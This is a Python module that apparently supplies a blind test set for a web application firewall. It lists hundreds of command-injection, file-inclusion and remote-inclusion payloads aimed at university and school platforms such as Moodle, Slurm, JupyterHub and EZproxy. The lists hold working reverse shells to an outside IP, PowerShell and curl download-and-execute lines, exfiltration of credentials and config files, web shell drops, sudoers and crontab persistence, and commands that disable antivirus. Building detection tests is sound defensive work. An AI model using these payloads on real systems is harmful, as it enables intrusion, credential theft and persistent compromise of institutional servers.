"""Blind set "twohundredtwentyfirst": OS command injection, local file inclusion / path traversal and remote file
inclusion aimed at the software of schools, universities and research institutes, with benign requests that carry
the same words innocently.

The angle: education and research platforms, recalled from memory. Learning management systems (Moodle, Canvas,
Blackboard, Sakai, ILIAS, Chamilo) and their plugins, quiz and gradebook pages, student information systems and
enrolment portals, library catalogues and discovery layers (OPACs, Koha, EZproxy), institutional repositories
(DSpace, EPrints, Omeka), JupyterHub and notebook servers, HPC job portals (Open OnDemand, Slurm REST), plagiarism
and proctoring integrations, LTI launches, SAML/Shibboleth login pages, journal and conference submission systems
(OJS and the like), and the wikis and CMSes campuses run. Each payload is written the way it is aimed at one of
them (its parameter, its file layout, its helper binaries, its operating system) and still does the family's real
work: run a command in the shell, read a file the web server can reach, include code from another host. A comment
above each list names the family, the systems and the target (shell, interpreter, product).

Families (one sub-family per detection title):
  rce: unix-command-injection, unix-shell-expression-evasion, windows-cmd-injection, powershell,
    unix-command-names-with-paths, reverse-shells, shellshock, downloaders, file-write-via-shell,
    restricted-file-names-in-commands
  lfi: path-traversal, os-file-access, absolute-paths, null-byte-truncation, php-wrapper-lfi,
    log-poisoning-targets, restricted-file-extensions
  rfi: url-with-ip-address, url-with-trailing-question-mark, include-parameter-with-url, off-domain-reference,
    protocols

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names, as a query string, form body, JSON body, XML body, a raw form-typed body, or in
User-Agent, Referer, a custom header or a cookie. Parameter names follow the category (host, jobname, lang for
commands; file, page, template for inclusion). Shellshock function definitions go in headers and cookies, where
a CGI script exports them; include-parameter pairs (`page=http://...`) go as raw query strings and form bodies.
Payloads with control characters (newline, NUL) never go into headers, cookies or the path.

Authorship and independence: written for this repository from general knowledge of each attack family, of the
education products named, as remembered, and of the detection titles alone; no WAF rule, engine source, ruleset
regression test or public payload list was read. Measured once on unchanged code; deterministic (no clock, no
randomness).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "twohundredtwentyfirst"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
UA_H = ("header:User-Agent", "rs-header:User-Agent")
REF_H = ("header:Referer", "rs-header:Referer")
CK = ("cookie", "rs-cookie")
QS = ("query", "rs-query")
KV = ("form", "rs-raw-body")

# ================================================================================================================
# rce
# ----------------------------------------------------------------------------------------------------------------
# unix-command-injection: a value a PHP/Perl/Python back end hands to /bin/sh, broken out of with ; | || && ` $()
# and newline. Targets: bash/dash behind Moodle's admin paths (aspell, du, dot, ghostscript), Open OnDemand and
# Slurm REST job fields, a campus network-tools page, a plagiarism connector converting uploads with soffice.
UNIX_INJECTION: list[Entry] = [
    # Moodle spell-check language passed to aspell on the command line (shell: bash)
    "en_GB; id #",
    "en_US|cat /etc/passwd",
    # IT helpdesk "ping a lab machine" page for the computer science labs (shell: sh)
    "lab-pc-14.cs.example.edu && uname -a",
    "127.0.0.1;cat /etc/passwd",
    "10.20.0.5 || whoami",
    # Open OnDemand interactive-app form: the job name ends up inside an sbatch command line (shell: bash)
    "jupyter_lab$(id>/tmp/ood_out)",
    "rstudio_session`whoami`",
    "matlab_job;scontrol show config;",
    # Slurm REST (slurmrestd) job submission, the "script" field's comment line closed by a newline (shell: bash)
    "#!/bin/bash\n#SBATCH --job-name=train\nid\ncat /etc/passwd",
    # plagiarism connector: the submission file name goes into a soffice --convert-to command (shell: sh)
    "essay_final.docx;ls -la /var/moodledata",
    "coursework.odt`id`.pdf",
    "lab report.docx$(sleep 10)",
    # course backup script: the course short name becomes part of a tar command (shell: bash)
    "CS101-2024 | cat /var/www/moodle/config.php",
    "MATH201';id;'",
    'PHYS110" ; id ; "',
    # EPrints/DSpace thumbnail generation: ImageMagick convert run through the shell on the bitstream name
    "thesis_scan.tif\nid",
    # Koha staff client tool that shells out to zebraidx with the biblio number
    "1042;nslookup $(whoami).oast.example.net",
]

# unix-shell-expression-evasion: the same injections with quotes, ${IFS}, globbing, brace expansion and variables
# standing in for banned characters and words. Targets: bash behind a Moodle filter setting, a JupyterHub spawner
# option, the HPC portal's file-manager "compress" action, an OPAC export helper that strips spaces.
SHELL_EVASION: list[Entry] = [
    # the HPC portal's archive action strips spaces: ${IFS} and $IFS$9 stand in (bash)
    ";cat${IFS}/etc/passwd",
    ";cat$IFS$9/etc/shadow",
    ";{cat,/etc/passwd}",
    # the JupyterHub spawner option blacklists the words cat and passwd: quotes split them (bash)
    ";c'a't /e't'c/pa''sswd",
    ';c"a"t /e"t"c/p"a"sswd',
    ";w\\h\\o\\a\\m\\i",
    ";who$@ami",
    # Moodle's "path to du" setting checked against a word list: globbing finds the binary and the file (sh)
    ";/???/c?t /???/p?ss??",
    ";/bin/ca* /etc/pass*",
    ";cat /etc/pass[w]d",
    # the OPAC export helper bans slashes: take one from a variable (bash)
    ";cat ${HOME:0:1}etc${HOME:0:1}passwd",
    ";a=ca;b=t;$a$b /etc/passwd",
    ";X=$'\\x20';cat${X}/etc/passwd",
    # the command itself encoded, decoded by the shell (bash)
    ";$(printf '\\x69\\x64')",
    ";echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh",
    ";rev<<<'dwssap/cte/ tac'|sh",
    ";tr 'a-z' 'n-za-m' <<< 'png /rgp/cnffjq' | bash",
    ";cat</etc/passwd",
]

# windows-cmd-injection: cmd.exe behind Blackboard Learn and EZproxy installs on Windows Server, a Chamilo on XAMPP
# in a school computer lab, and a library self-check kiosk back end. Target: cmd.exe.
WINDOWS_CMD: list[Entry] = [
    # EZproxy on Windows, admin "test a starting point" host field
    "proxy.example.edu & type C:\\ezproxy\\user.txt",
    "proxy.example.edu | type C:\\ezproxy\\config.txt",
    # Blackboard Learn on Windows, a building block that pings the content server
    "content01 && whoami /all",
    "content01 || net user",
    "127.0.0.1 & ipconfig /all",
    "x & dir C:\\inetpub\\wwwroot",
    "& %COMSPEC% /c net localgroup administrators",
    "& cmd.exe /c set",
    # Chamilo on XAMPP in a school lab: the document converter's file name reaches cmd.exe
    "slides.pptx & type C:\\xampp\\htdocs\\chamilo\\app\\config\\configuration.php",
    "notes.docx && reg query \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\"",
    # caret, quote and variable evasion of the word list cmd.exe tolerates
    "& who^ami",
    '& w"h"o"a"m"i',
    "& set x=who& set y=ami& call %x%%y%",
    # blind: timing and out-of-band
    "& ping -n 10 127.0.0.1",
    "& for /f %i in ('whoami') do nslookup %i.oast.example.net",
    "& net use \\\\198.51.100.23\\share",
    "& schtasks /create /tn upd /tr \"cmd /c whoami > C:\\ezproxy\\docs\\w.txt\" /sc once /st 00:00",
]

# powershell: PowerShell launched from an injected command on Windows-hosted campus systems (Blackboard, EZproxy,
# a Windows proctoring server, the library's print-release station). Target: powershell.exe / pwsh.
POWERSHELL: list[Entry] = [
    "& powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')\"",
    "& powershell -enc dwBoAG8AYQBtAGkA",
    "& powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0"
    "ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADIAMwAvAGEA"
    "LgBwAHMAMQAnACkA",
    "| powershell Get-Content C:\\inetpub\\wwwroot\\web.config",
    "& powershell.exe -ExecutionPolicy Bypass -Command \"Invoke-WebRequest -Uri http://198.51.100.23/x -Method POST "
    "-Body (Get-Content C:\\ezproxy\\user.txt -Raw)\"",
    ";powershell IEX(IWR http://198.51.100.23/r.ps1 -UseBasicParsing)",
    "& pwsh -c \"Get-ChildItem Env:\"",
    "& powershell -c \"$c=New-Object Net.Sockets.TCPClient('198.51.100.23',443);$s=$c.GetStream();"
    "[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding)"
    ".GetString($b,0,$i);$r=(iex $d 2>&1|Out-String);$o=([text.encoding]::ASCII).GetBytes($r);"
    "$s.Write($o,0,$o.Length)}\"",
    "& powershell -c \"Add-LocalGroupMember -Group Administrators -Member student01\"",
    "| powershell -c \"[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('d2hvYW1p'))|iex\"",
    "& powershell -c \"Set-MpPreference -DisableRealtimeMonitoring $true\"",
    "& powershell -c \"Get-WmiObject Win32_UserAccount | Out-File C:\\inetpub\\wwwroot\\u.txt\"",
    "& powershell -nop -c \"Invoke-Expression (Get-Content \\\\198.51.100.23\\s\\p.ps1 -Raw)\"",
    "& powershell -c \"(New-Object System.Net.WebClient).DownloadFile('http://198.51.100.23/nc.exe',"
    "'C:\\Windows\\Temp\\nc.exe')\"",
    "& powershell -c \"Compress-Archive C:\\BbContent C:\\inetpub\\wwwroot\\bb.zip\"",
    "& powershell -c \"Start-Process cmd -ArgumentList '/c whoami > C:\\Windows\\Temp\\w.txt' -WindowStyle Hidden\"",
]

# unix-command-names-with-paths: the command named by its full path (no PATH lookup, or a PATH the filter checks).
# Targets: sh behind Moodle's server-path settings, the Slurm tools on an HPC login node, pdflatex with shell escape
# behind the Moodle TeX filter and an OJS LaTeX converter.
UNIX_WITH_PATH: list[Entry] = [
    ";/bin/cat /etc/passwd",
    "|/usr/bin/id",
    ";/usr/bin/whoami",
    "&&/bin/ls -la /var/moodledata",
    ";/bin/uname -a",
    "|/usr/bin/printenv",
    ";/usr/bin/find /var/www -name config.php",
    ";/usr/bin/squeue -u root",
    ";/opt/slurm/bin/scontrol show nodes",
    ";/usr/bin/sbatch --wrap=\"/usr/bin/id > /tmp/o\"",
    ";/usr/bin/python3 -c 'import os;os.system(\"id\")'",
    ";/usr/bin/perl -e 'print qx(id)'",
    ";/usr/bin/php -r 'system(\"id\");'",
    ";/usr/bin/mysql -e 'select username,password from moodle.mdl_user'",
    ";/usr/sbin/sendmail attacker@example.net < /etc/passwd",
    # Moodle TeX filter / OJS LaTeX galley: pdflatex run with shell escape enabled
    "\\immediate\\write18{/bin/cat /etc/passwd > /tmp/p.tex}",
    "$$\\immediate\\write18{/usr/bin/id}$$",
]

# reverse-shells: a shell back to the attacker once a command runs. Targets: bash, nc, python, perl, socat, php,
# ruby, node and awk as found on a JupyterHub single-user image, an HPC login node or an LMS web server.
REVERSE_SHELL: list[Entry] = [
    ";bash -i >& /dev/tcp/198.51.100.23/4444 0>&1",
    ";bash -c 'bash -i >& /dev/tcp/198.51.100.23/443 0>&1'",
    "|nc -e /bin/sh 198.51.100.23 4444",
    ";rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.23 4444 >/tmp/f",
    ";python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"198.51.100.23\",4444));"
    "[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'",
    ";python -c 'import pty,socket,os;s=socket.socket();s.connect((\"198.51.100.23\",9001));"
    "[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn(\"bash\")'",
    ";perl -e 'use Socket;$i=\"198.51.100.23\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");"
    "exec(\"/bin/sh -i\");};'",
    ";socat tcp-connect:198.51.100.23:4444 exec:/bin/bash,pty,stderr,setsid",
    ";ncat 198.51.100.23 4444 -e /bin/bash",
    ";php -r '$s=fsockopen(\"198.51.100.23\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    ";ruby -rsocket -e'f=TCPSocket.open(\"198.51.100.23\",4444).to_i;"
    "exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
    ";exec 5<>/dev/tcp/198.51.100.23/4444;cat <&5|while read l;do $l 2>&5 >&5;done",
    ";0<&196;exec 196<>/dev/tcp/198.51.100.23/4444; sh <&196 >&196 2>&196",
    ";telnet 198.51.100.23 4444 | /bin/bash | telnet 198.51.100.23 4445",
    ";sh -i >& /dev/udp/198.51.100.23/53 0>&1",
    ";awk 'BEGIN{s=\"/inet/tcp/0/198.51.100.23/4444\";while(1){printf \"> \"|&s;s|&getline c;"
    "if(c){while((c|&getline)>0)print|&s;close(c)}}}'",
    ";node -e 'require(\"child_process\").exec(\"bash -c \\\"bash -i >& /dev/tcp/198.51.100.23/4444 0>&1\\\"\")'",
]

# shellshock: a bash function definition in an environment variable a CGI script exports (CVE-2014-6271 and
# its follow-ups). Targets: bash behind the cgi-bin of old departmental sites, EPrints and library OPAC CGI
# front ends, a campus Nagios/cgi status page. Most go in the headers a CGI turns into HTTP_* variables.
SHELLSHOCK: list[Entry] = [
    ("() { :; }; echo; /bin/cat /etc/passwd",) + UA_H,
    ("() { :;}; /bin/bash -c \"id\"",) + UA_H,
    ("() { _; } >_[$($())] { id; }",) + UA_H,
    ("() { :; }; /usr/bin/wget http://198.51.100.23/k -O /tmp/k",) + REF_H,
    ("() { :; }; echo Content-Type: text/plain; echo; /usr/bin/id",) + REF_H,
    ("() { test;};/bin/ping -c 5 198.51.100.23",) + UA_H,
    ("() { :; }; /bin/bash -i >& /dev/tcp/198.51.100.23/4444 0>&1",) + UA_H,
    ("() { ignored;}; /bin/sleep 10",) + CK,
    ("() { :; }; /usr/bin/curl -d @/etc/passwd http://198.51.100.23/",) + REF_H,
    ("() { :;}; echo vulnerable",) + CK,
    ("() { x; }; /bin/cat /etc/koha/sites/library/koha-conf.xml",) + UA_H,
    ("() { :; }; /usr/bin/nslookup shellshock.oast.example.net",) + CK,
    ("() { :;}; /bin/sh -c 'cat /etc/shadow'",) + REF_H,
    ("() { :; }; /usr/bin/env",) + UA_H,
    "() { :; }; /usr/bin/python -c 'import os;os.system(\"id\")'",
    "() { :;}; /bin/cat /opt/eprints3/archives/repo/cfg/cfg.d/database.pl",
    "() { (a)=>\\' bash -c \"echo date\"; cat echo",
]

# downloaders: fetch a second stage and run or store it. Targets: sh with curl, wget, busybox,
# lwp-request (on every Koha server, it is Perl), python and git, on LMS web servers and HPC login nodes (where the
# real-world second stage is a cryptominer).
DOWNLOADER: list[Entry] = [
    ";curl -s http://198.51.100.23/x.sh|sh",
    ";wget -qO- http://198.51.100.23/x.sh|bash",
    "|curl http://198.51.100.23/m -o /tmp/m;chmod +x /tmp/m;/tmp/m",
    "$(curl -fsSL http://198.51.100.23/i.sh | bash)",
    "`wget -O - http://198.51.100.23/p|sh`",
    ";curl -X POST --data-binary @/var/www/moodle/config.php http://198.51.100.23/c",
    ";curl -T /etc/munge/munge.key ftp://198.51.100.23/",
    ";wget --post-file=/etc/passwd http://198.51.100.23/",
    ";busybox wget http://198.51.100.23/b -O-|sh",
    ";python3 -c \"import urllib.request as u;exec(u.urlopen('http://198.51.100.23/p.py').read())\"",
    ";lwp-download http://198.51.100.23/x /tmp/x;perl /tmp/x",
    ";GET http://198.51.100.23/x.sh | sh",
    ";git clone http://198.51.100.23/r.git /tmp/r && sh /tmp/r/run.sh",
    ";curl -sk https://198.51.100.23:8443/s | python3 -",
    ";wget -q http://198.51.100.23/xmrig -O /tmp/.x && chmod 755 /tmp/.x && /tmp/.x",
    ";pip install --index-url http://198.51.100.23/simple/ --trusted-host 198.51.100.23 jupyter-helper",
    "& certutil -urlcache -split -f http://198.51.100.23/b.exe C:\\Users\\Public\\b.exe & C:\\Users\\Public\\b.exe",
]

# file-write-via-shell: echo/printf/tee/cp writing a web shell, a key, a cron line or a config change. Targets: sh
# on Moodle, OJS, ILIAS, Chamilo and Omeka (PHP web roots), DSpace on Tomcat (JSP), JupyterHub's config, a Slurm
# login node; cmd.exe on an IIS server.
FILE_WRITE: list[Entry] = [
    ";echo '<?php system($_GET[\"c\"]); ?>' > /var/www/moodle/local/s.php",
    ";echo PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==|base64 -d > /var/www/html/ojs/public/s.php",
    "|tee /var/www/ilias/data/x.php <<< '<?php passthru($_REQUEST[1]);'",
    ";echo '<?php eval($_POST[1]);?>' | tee /var/www/chamilo/app/upload/s.php",
    ";printf '<?php system($_GET[0]);' > /var/www/omeka/files/original/s.php",
    ";echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ8c0x7gqLQwX2b9m7mBZ4Jk1tQe5yYk0vR3lH6aNnPz a@b' >> "
    "/root/.ssh/authorized_keys",
    ";echo '* * * * * root bash -c \"bash -i >& /dev/tcp/198.51.100.23/4444 0>&1\"' >> /etc/crontab",
    ";echo \"c.Spawner.cmd=['bash','-c','id>/tmp/o']\" >> /etc/jupyterhub/jupyterhub_config.py",
    ";echo 'curl -s http://198.51.100.23/x|sh' >> ~/.bashrc",
    ";cat /etc/passwd > /var/www/html/dspace/static/p.txt",
    ";cp /etc/shadow /var/www/moodle/pix/s.txt",
    ";tee -a /etc/sudoers <<< 'www-data ALL=(ALL) NOPASSWD:ALL'",
    ";echo '<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>' > "
    "/dspace/webapps/server/s.jsp",
    ";echo 1 > /var/moodledata/climaintenance.html",
    "&& echo '#!/bin/bash' > /tmp/j.sh && echo 'id > /tmp/o' >> /tmp/j.sh && sbatch /tmp/j.sh",
    "& echo ^<%eval request(\"c\")%^> > C:\\inetpub\\wwwroot\\s.asp",
    ";echo '<?php system($_GET[1]);' > /var/www/mediawiki/images/s.php",
]

# restricted-file-names-in-commands: a command that reads the files that hold the keys to a campus: passwords, SSH and
# SAML keys, the munge key of a Slurm cluster, LMS and repository database settings. Target: sh (cmd.exe last).
RESTRICTED_FILE: list[Entry] = [
    ";cat /etc/shadow",
    ";cat /etc/sudoers",
    ";tail -n 50 /var/log/apache2/access.log",
    ";cat ~/.bash_history",
    ";cat /root/.ssh/id_rsa",
    ";cat /proc/self/environ",
    ";base64 /etc/munge/munge.key",
    ";cat /etc/shibboleth/sp-key.pem",
    ";cat /srv/jupyterhub/jupyterhub_cookie_secret",
    ";cat /etc/koha/sites/library/koha-conf.xml",
    ";cat /dspace/config/local.cfg",
    ";cat /usr/local/ezproxy/user.txt",
    ";cat /etc/ood/config/ood_portal.yml",
    ";cat /etc/slurm/slurmdbd.conf",
    ";strings /etc/krb5.keytab",
    ";more /var/canvas/config/database.yml",
    "& type C:\\boot.ini",
]

# ================================================================================================================
# lfi
# ----------------------------------------------------------------------------------------------------------------
# path-traversal: ../ and ..\ in every encoding, into the file a PHP include or a download handler opens. Targets:
# Moodle file.php and theme/lang loaders, OJS and Chamilo document viewers (PHP), IIS-hosted Blackboard pages
# (Windows), DSpace and Sakai on Tomcat (Java servlet path handling).
TRAVERSAL: list[Entry] = [
    "../../../../etc/passwd",
    "..\\..\\..\\..\\windows\\win.ini",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%252f..%252f..%252f..%252fetc%252fpasswd",
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
    "....//....//....//....//etc/passwd",
    "..././..././..././..././etc/passwd",
    "..%5c..%5c..%5c..%5cwindows%5cwin.ini",
    "%2e%2e%5c%2e%2e%5c%2e%2e%5cboot.ini",
    "..//..//..//..//etc//passwd",
    "..\\/..\\/..\\/..\\/etc/passwd",
    ".%2e/.%2e/.%2e/.%2e/etc/passwd",
    "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd",
    "..%u2216..%u2216..%u2216windows%u2216win.ini",
    "..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd",
    # Moodle: a language pack and a theme name walked out of their directories to config.php
    "lang/en/../../../../../../etc/passwd",
    "theme/boost/../../../../../var/www/moodle/config.php",
    "/var/www/moodle/../../../etc/passwd",
    # DSpace / Sakai on Tomcat: ;-parameters and encoded slashes in the servlet path
    "..;/..;/..;/WEB-INF/web.xml",
    "/bitstream/handle/123456789/1/..%2f..%2f..%2f..%2fdspace%2fconfig%2flocal.cfg",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fopt%2fojs%2fconfig.inc.php",
]

# os-file-access: the files traversal is after on a campus server (passwd and shadow, /proc/self, win.ini and
# boot.ini, web.config, .htaccess, .git, .env, SSH keys, the SAML SP key, the Slurm munge key, JupyterHub's
# secrets, the LMS and library database settings). Target: the file system through a PHP/Java file parameter.
OS_FILE: list[Entry] = [
    "../../../../proc/self/environ",
    "../../../../proc/self/cmdline",
    "../../../../proc/self/cwd/config.php",
    "../../../../proc/self/status",
    "../../.env",
    "../../../.git/config",
    "../.git/HEAD",
    "../.htaccess",
    "../../web.config",
    "..\\..\\..\\inetpub\\wwwroot\\web.config",
    "../../../../home/moodle/.ssh/id_rsa",
    "../../../../root/.ssh/id_rsa",
    "../../../../home/jovyan/.ssh/id_ed25519",
    "../../../../etc/shadow",
    "../../../../etc/hosts",
    "..\\..\\..\\..\\boot.ini",
    "../../../../windows/win.ini",
    "../../../../windows/system32/drivers/etc/hosts",
    "../../../../etc/shibboleth/sp-key.pem",
    "../../../../etc/munge/munge.key",
    "../../../../srv/jupyterhub/jupyterhub.sqlite",
    "../../../../var/lib/jupyterhub/jupyterhub_cookie_secret",
    "../../../../etc/koha/sites/library/koha-conf.xml",
    "../../../../opt/tomcat/sakai/sakai.properties",
]

# absolute-paths: the file named from the root, for a loader that does not prefix a directory (or whose prefix an
# absolute path replaces: os.path.join, Paths.get().resolve). Targets: Moodle, OJS, ILIAS, Chamilo, Omeka, EPrints,
# Canvas, Blackboard, MediaWiki and WordPress settings; Shibboleth, Open OnDemand and Slurm configs; Windows files.
ABSOLUTE: list[Entry] = [
    "/etc/passwd",
    "/etc/shadow",
    "/var/www/moodle/config.php",
    "/var/lib/php/sessions/sess_8f14e45fceea167a5a36dedd4bea2543",
    "C:\\Windows\\win.ini",
    "C:\\boot.ini",
    "C:/inetpub/wwwroot/web.config",
    "C:\\Windows\\System32\\inetsrv\\config\\applicationHost.config",
    "file:///etc/passwd",
    "/proc/self/environ",
    "/etc/shibboleth/shibboleth2.xml",
    "/etc/ood/config/ood_portal.yml",
    "/etc/slurm/slurm.conf",
    "/dspace/config/local.cfg",
    "/var/www/html/ojs/config.inc.php",
    "/var/www/ilias/ilias.ini.php",
    "/var/www/chamilo/app/config/configuration.php",
    "/var/www/omeka/db.ini",
    "/opt/eprints3/archives/repo/cfg/cfg.d/database.pl",
    "/var/canvas/config/database.yml",
    "/usr/local/blackboard/config/bb-config.properties",
    "/var/www/mediawiki/LocalSettings.php",
    "/var/www/html/wp-config.php",
    "/home/jovyan/.local/share/jupyter/runtime/jpserver-7.json",
    "/root/.bash_history",
]

# null-byte-truncation: a NUL (raw or %00) or an over-long path that cuts off the suffix the application appends
# (".php", ".tpl", a language file's "en.php"). Targets: PHP before 5.3.4 on old Moodle 1.9, Claroline/Dokeos and
# OJS 2 installs still running in departments; Windows path normalisation behind IIS.
NULL_BYTE: list[Entry] = [
    "../../../../etc/passwd\x00",
    "../../../../etc/passwd\x00.php",
    "../../../../etc/passwd%00",
    "../../../../etc/passwd%00.html",
    "../../../../var/www/moodle/config.php\x00.jpg",
    "..\\..\\..\\windows\\win.ini\x00.txt",
    "../../../../etc/passwd" + "/." * 2100,
    "../../../../etc/passwd\x00en.php",
    "/etc/passwd\x00",
    "../../../../etc/passwd%2500",
    "....//....//etc/passwd\x00.tpl",
    "../../../../boot.ini%00.css",
    "../../../../etc/passwd%00.inc.php",
    "../../../../etc/shadow\x00.xml",
    "../../../../etc/passwd\x00.ipynb",
    "/../../../../etc/passwd%00index.html",
    "C:\\boot.ini\x00.pdf",
    "..\\..\\..\\..\\boot.ini" + "." * 300,
    "../../../../etc/passwd" + "./" * 2100 + ".php",
    "../../../../opt/ojs/config.inc.php%00.tpl",
    "../../../../etc/passwd\x00/lang/en/moodle.php",
]

# php-wrapper-lfi: PHP stream wrappers in an include()/file_get_contents() parameter: php://filter to read source,
# php://input, phar://, zip://, compress.*, glob://. Targets: the PHP interpreter behind Moodle, OJS, ILIAS,
# Chamilo, Omeka Classic and MediaWiki.
PHP_WRAPPER: list[Entry] = [
    "php://filter/convert.base64-encode/resource=config.php",
    "php://filter/read=convert.base64-encode/resource=../config.php",
    "php://filter/convert.base64-encode/resource=/var/www/html/ojs/config.inc.php",
    "php://filter/string.rot13/resource=index.php",
    "php://filter/convert.iconv.utf-8.utf-16/resource=ilias.ini.php",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd",
    "php://filter/resource=/etc/passwd",
    "PHP://filter/convert.base64-encode/resource=../../config.php",
    "php://filter/read=string.toupper|string.rot13/resource=configuration.php",
    "php://filter/convert.quoted-printable-encode/resource=db.ini",
    "php://filter/convert.base64-encode/resource=LocalSettings.php",
    "php://filter/convert.base64-encode/resource=../../../app/config/configuration.php",
    "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|"
    "convert.base64-decode/resource=php://temp",
    "php://input",
    "php://fd/3",
    "phar://./uploads/assignment_42.jpg/x.php",
    "phar:///var/moodledata/temp/backup/course.mbz/shell.php",
    "zip:///var/www/chamilo/app/courses/CS101/upload/hw.zip%23shell.php",
    "zip://uploads/avatar.jpg#cmd.php",
    "compress.zlib:///etc/passwd",
    "compress.bzip2:///var/www/moodle/config.php",
    "glob:///var/moodledata/*",
    "file://C:/xampp/htdocs/chamilo/app/config/configuration.php",
    "php://filter/convert.base64-encode/resource=/var/www/omeka/application/config/config.ini",
]

# log-poisoning-targets: log, session and mail files an attacker can write into (a User-Agent, an SSH user name, a
# Slurm job name, a SAML attribute) and then include. Targets: PHP include behind Moodle/Chamilo/OJS; the logs of
# Apache, nginx, sshd, Slurm, JupyterHub, Shibboleth, Koha, EZproxy, Tomcat and IIS.
LOG_TARGET: list[Entry] = [
    "../../../../var/log/apache2/access.log",
    "../../../../var/log/apache2/error.log",
    "../../../../var/log/nginx/access.log",
    "../../../../var/log/httpd/access_log",
    "../../../../proc/self/fd/2",
    "../../../../var/log/auth.log",
    "../../../../var/log/mail.log",
    "../../../../var/log/vsftpd.log",
    "../../../../var/moodledata/sessions/sess_k2d9f8a7b6c5e4d3a1",
    "../../../../tmp/sess_9a8b7c6d5e4f3a2b1c0d",
    "../../../../var/log/slurm/slurmctld.log",
    "../../../../var/log/jupyterhub.log",
    "../../../../var/log/shibboleth/shibd.log",
    "../../../../var/log/koha/library/opac-error.log",
    "../../../../usr/local/ezproxy/ezproxy.log",
    "C:\\xampp\\apache\\logs\\access.log",
    "..\\..\\..\\..\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex240915.log",
    "../../../../opt/tomcat/logs/catalina.out",
    "../../../../dspace/log/dspace.log.2024-09-15",
    "../../../../var/log/php-fpm/www-error.log",
    "../../../../var/mail/www-data",
    "/var/log/apache2/other_vhosts_access.log",
    "../../../../proc/self/fd/10",
]

# restricted-file-extensions: backup, swap and settings copies a download or include parameter hands out as text
# (.bak, .old, .orig, .swp, .sql, .ini, .config). Targets: the file-serving endpoint of Moodle, OJS, Koha, DSpace,
# ILIAS, MediaWiki, WordPress, Drupal, Canvas, Sakai, JupyterHub and EZproxy installs, and IIS.
RESTRICTED_EXT: list[Entry] = [
    "config.php.bak",
    "../config.php~",
    "../../config.php.old",
    "config.inc.php.bak",
    "../.config.php.swp",
    "../backup/moodle-2024-09-14.sql",
    "../../koha-conf.xml.bak",
    "../config/local.cfg.old",
    "../db.ini",
    "ilias.ini.php.bak",
    "../../php.ini",
    "../../web.config.bak",
    "LocalSettings.php.orig",
    "../wp-config.php.bak",
    "sites/default/settings.php.old",
    "../config/database.yml.bak",
    "../../sakai/sakai.properties.bak",
    "/etc/jupyterhub/jupyterhub_config.py.bak",
    "../exports/gradebook_export.sql",
    "../../.env.bak",
    "config.txt.old",
    "../../../var/backups/passwd.bak",
    "../connectionStrings.config",
    "../../dump.sql",
]

# ================================================================================================================
# rfi
# ----------------------------------------------------------------------------------------------------------------
# url-with-ip-address: the included or fetched URL names its host by IP (dotted, decimal, hex, IPv6), the way a
# dropper server or an internal service is reached. Targets: PHP include() with allow_url_include in Moodle,
# Chamilo and OJS plugins; server-side fetchers (Moodle RSS block, LTI registration, Omeka URL import) reaching
# JupyterHub's API, slurmrestd and cloud metadata.
URL_IP: list[Entry] = [
    "http://198.51.100.23/shell.txt",
    "http://203.0.113.45/c99.txt",
    "http://192.0.2.10:8080/r57.txt",
    "https://198.51.100.23/payload.php",
    "http://3325256727/shell.txt",
    "http://0xC6336417/x.txt",
    "http://[2001:db8::23]/s.txt",
    "http://198.51.100.23/moodle/theme/x.txt",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://10.0.0.5/internal/gradebook.php",
    "http://127.0.0.1:8000/hub/api/users",
    "http://127.0.0.1:8081/hub/api/users",
    "http://127.0.0.1:6820/slurm/v0.0.39/jobs",
    "http://127.0.0.1:8983/solr/admin/cores?action=STATUS",
    "http://203.0.113.45/lti/tool.php",
